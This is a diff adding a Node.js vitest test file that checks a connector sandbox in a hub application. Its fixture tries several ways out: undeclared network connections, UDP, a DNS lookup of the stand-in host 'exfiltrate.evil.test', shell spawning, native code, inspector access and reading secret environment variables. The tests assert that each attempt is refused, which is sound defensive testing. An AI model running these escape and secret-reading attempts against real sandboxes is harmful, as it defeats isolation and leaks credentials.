@@ -1,0 +1,146 @@
+import { createServer as createHttpServer, type Server } from 'node:http';
+import { createSocket, type Socket } from 'node:dgram';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import pino from 'pino';
+import { createTestHub, type TestHub } from '../../core/src/testing/harness.js';
+import { createBooks } from '../../hub/src/connectors/books.js';
+import { createCatalog, type Catalog } from '../../hub/src/connectors/catalog.js';
+import { createConnectorRuntime, DEFAULT_TIMEOUTS, type ConnectorRuntime, type FailureReport } from '../../hub/src/connectors/runtime.js';
+import { HandlerFailure } from '../../hub/src/connectors/worker/connector-worker.js';
+import { connectorFolder, connectorSource, testManifest, type ConnectorFolder } from './fixtures.js';
+
+/** Tries Node's own ways out of the sandbox, one per mode, against a local server whose host it may or may not declare. */
+const ESCAPER = connectorSource({
+  top: `import http from 'node:http';
+import https from 'node:https';
+import net from 'node:net';
+import tls from 'node:tls';
+import dgram from 'node:dgram';
+import dns from 'node:dns';
+import inspector from 'node:inspector';
+import { spawn, execSync } from 'node:child_process';
+import { Worker } from 'node:worker_threads';
+const settle = (start) => new Promise((resolve, reject) => start(resolve, reject));`,
+  action: `
+    const { port, udpPort } = input;
+    switch (input.mode) {
+      case 'http': return await settle((ok, ko) => http.get('http://127.0.0.1:' + port + '/', (res) => { res.resume(); res.on('end', () => ok({ status: res.statusCode })); }).on('error', ko));
+      case 'https': return await settle((ok, ko) => https.get('https://127.0.0.1:' + port + '/', () => ok('connected')).on('error', ko));
+      case 'lookup': return await settle((ok, ko) => http.get({ host: 'api.sample.test', port, path: '/', lookup: (h, o, cb) => (o && o.all ? cb(null, [{ address: '127.0.0.1', family: 4 }]) : cb(null, '127.0.0.1', 4)) }, () => ok('connected')).on('error', ko));
+      case 'net': return await settle((ok, ko) => net.connect({ port, host: '127.0.0.1' }, () => ok('connected')).on('error', ko));
+      case 'net-args': return await settle((ok, ko) => net.connect(port, '127.0.0.1', () => ok('connected')).on('error', ko));
+      case 'tls': return await settle((ok, ko) => tls.connect({ port, host: '127.0.0.1' }, () => ok('connected')).on('error', ko));
+      case 'dgram': { const s = dgram.createSocket('udp4'); s.send('hello', udpPort, '127.0.0.1'); return 'sent'; }
+      case 'dns': return await dns.promises.resolveTxt('exfiltrate.evil.test');
+      case 'spawn': spawn('sh', ['-c', 'echo escaped']); return 'spawned';
+      case 'exec': return String(execSync('echo escaped'));
+      case 'worker': new Worker('1', { eval: true }); return 'started';
+      case 'binding': return typeof process.binding('fs');
+      case 'dlopen': process.dlopen({ exports: {} }, '/nonexistent/addon.node'); return 'loaded';
+      case 'inspector': { const session = new inspector.Session(); session.connectToMainThread(); return 'attached'; }
+      case 'env': return { secret: process.env.HUB_SECRET_KEY ?? null, database: process.env.DATABASE_URL ?? null };
+      default: return null;
+    }`,
+});
+
+let hub: TestHub;
+let folder: ConnectorFolder;
+let catalog: Catalog;
+let open: ConnectorRuntime;
+let strict: ConnectorRuntime;
+let server: Server;
+let udp: Socket;
+let port: number;
+let udpPort: number;
+let connections = 0;
+let datagrams = 0;
+const failures: FailureReport[] = [];
+let org: string;
+
+const call = (runtime: ConnectorRuntime, connectorId: string, mode: string): Promise<unknown> =>
+  runtime.invoke({ connectorId, version: '1.0.0', organizationId: org, credentials: { apiKey: 'key-0123456789' }, config: {}, cause: { source: 'IMPORT' }, kind: 'action', name: 'echo', args: [{ mode, port, udpPort }], timeoutMs: 10_000 });
+const refusal = async (p: Promise<unknown>): Promise<HandlerFailure> => {
+  const error = await p.then((value: unknown) => value, (e: unknown) => e);
+  expect(error).toBeInstanceOf(HandlerFailure);
+  return error as HandlerFailure;
+};
+
+beforeAll(async () => {
+  process.env['HUB_SECRET_KEY'] = 'the-hub-secret-key-0123456789';
+  server = createHttpServer((_req, res) => res.end('ok'));
+  server.on('connection', () => void (connections += 1));
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  port = (server.address() as AddressInfo).port;
+  udp = createSocket('udp4');
+  udp.on('message', () => void (datagrams += 1));
+  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
+  udpPort = udp.address().port;
+  hub = await createTestHub();
+  org = (await hub.createOrganization('Sandboxed')).id;
+  folder = connectorFolder();
+  folder.add('escaper', { source: ESCAPER });
+  folder.add('declared', { source: ESCAPER, manifest: testManifest('declared', { allowedHosts: ['127.0.0.1'] }) });
+  catalog = await createCatalog({ search: { paths: [folder.root] }, limits: { maxOldGenerationSizeMb: 96 }, loadTimeoutMs: 20_000 });
+  const runtime = (allowPrivate: boolean): ConnectorRuntime => createConnectorRuntime({
+    catalog, books: createBooks(hub.core.services), knex: hub.db.knex, logger: pino({ level: 'silent' }), limits: { maxOldGenerationSizeMb: 96 },
+    timeouts: DEFAULT_TIMEOUTS, idleMs: 60_000, loadTimeoutMs: 20_000, allowPrivate, onFailure: (report) => void failures.push(report),
+  });
+  open = runtime(true);
+  strict = runtime(false);
+}, 60_000);
+afterAll(async () => {
+  await open.stop();
+  await strict.stop();
+  delete process.env['HUB_SECRET_KEY'];
+  server.close();
+  udp.close();
+  folder.remove();
+  await hub.close();
+});
+
+describe("a connector's worker", () => {
+  it('loads with the sandbox in place', () => {
+    expect(catalog.get('escaper')?.available).toBe(true);
+  });
+
+  it.each(['http', 'https', 'lookup', 'net', 'net-args', 'tls'])('refuses a %s connection to a host the manifest does not declare; nothing reaches the server', async (mode) => {
+    const before = failures.length;
+    const failure = await refusal(call(open, 'escaper', mode));
+    expect(failure.reason).toBe('THREW');
+    // The declared host's lookup is the guard's own: the connector's fake DNS answer is ignored.
+    expect(failure.message).toMatch(mode === 'lookup' ? /api\.sample\.test does not resolve/ : /127\.0\.0\.1, a host the manifest does not declare in allowedHosts, is not allowed/);
+    expect(failures.slice(before)).toMatchObject([{ organizationId: org, connectorId: 'escaper', kind: 'action', reason: 'THREW' }]);
+    expect(connections).toBe(0);
+  });
+
+  it.each([
+    ['dgram', /a UDP socket is not allowed/],
+    ['dns', /resolving exfiltrate\.evil\.test, a host the manifest does not declare/],
+    ['spawn', /starting a process is not allowed/],
+    ['exec', /starting a process is not allowed/],
+    ['worker', /starting a worker thread is not allowed/],
+    ['binding', /native code/],
+    ['dlopen', /native code/],
+    ['inspector', /the inspector is not allowed/],
+  ])('refuses %s, and counts it as the connector failing', async (mode, message) => {
+    const before = failures.length;
+    expect((await refusal(call(open, 'escaper', mode))).message).toMatch(message);
+    expect(failures.slice(before)).toMatchObject([{ connectorId: 'escaper', reason: 'THREW', message: expect.stringMatching(message) }]);
+    expect(datagrams).toBe(0);
+    expect(connections).toBe(0);
+  });
+
+  it("shows the connector none of the hub's environment", async () => {
+    expect(await call(open, 'escaper', 'env')).toEqual({ secret: null, database: null });
+  });
+
+  it('lets a declared host through node:http and node:net, and still refuses it as a private address when private targets are not allowed', async () => {
+    expect(await call(open, 'declared', 'http')).toEqual({ status: 200 });
+    expect(await call(open, 'declared', 'net')).toBe('connected');
+    const reached = connections;
+    expect(reached).toBeGreaterThanOrEqual(2);
+    expect((await refusal(call(strict, 'declared', 'http'))).message).toMatch(/connecting to 127\.0\.0\.1 is refused: 127\.0\.0\.1 is a loopback address/);
+    expect(connections).toBe(reached);
+  });
+});
